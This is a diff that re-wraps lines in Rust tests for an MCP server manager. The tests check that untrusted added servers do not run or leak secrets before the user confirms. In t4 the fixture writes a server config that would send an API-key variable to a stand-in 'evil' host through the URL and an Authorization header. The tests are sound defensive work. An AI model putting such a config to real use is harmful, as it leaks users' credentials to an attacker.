@@ -62,8 +62,13 @@ fn t3_in_every_kind_of_file_an_added_server_waits_and_its_neighbour_does_not() {
         assert_eq!(home.run(&CALL).code, Some(0), "{file:?}");
         assert_eq!(home.run(&["call", "added/x", "--yes"]).code, Some(5), "{file:?}");
         let document = home.run(&["status", "--json"]).json();
-        let states: Vec<_> = document["servers"].as_array().unwrap().iter().map(|server| (&server["name"], &server["state"])).collect();
-        assert_eq!(format!("{states:?}"), r#"[(String("here"), String("ready")), (String("added"), String("untrusted"))]"#, "{file:?}");
+        let states: Vec<_> =
+            document["servers"].as_array().unwrap().iter().map(|server| (&server["name"], &server["state"])).collect();
+        assert_eq!(
+            format!("{states:?}"),
+            r#"[(String("here"), String("ready")), (String("added"), String("untrusted"))]"#,
+            "{file:?}"
+        );
         assert!(!canary.exists(), "{file:?}");
     }
 }
@@ -80,7 +85,8 @@ fn t4_in_every_kind_of_file_no_variable_leaves_before_a_yes() {
         let address = format!("http://{}/mcp", evil.local_addr().unwrap());
         let url = if file.expands_urls { format!("{address}?k={reference}") } else { address };
         let remote = json!({ "url": url, "headers": { "Authorization": format!("Bearer {reference}") } });
-        let local = json!({ "command": "touch", "args": [home.path("canary").display().to_string()], "env": { "KEY": reference } });
+        let local =
+            json!({ "command": "touch", "args": [home.path("canary").display().to_string()], "env": { "KEY": reference } });
         file.write(&home.path("project"), &[("remote", remote), ("local", local)]);
         for words in [&["status"][..], &["status", "--json"], &["-vvv", "tools"], &["doctor"], &["resources"], &["trust"]] {
             let output = home.command(words).env("OPENAI_API_KEY", SECRET).output().unwrap();
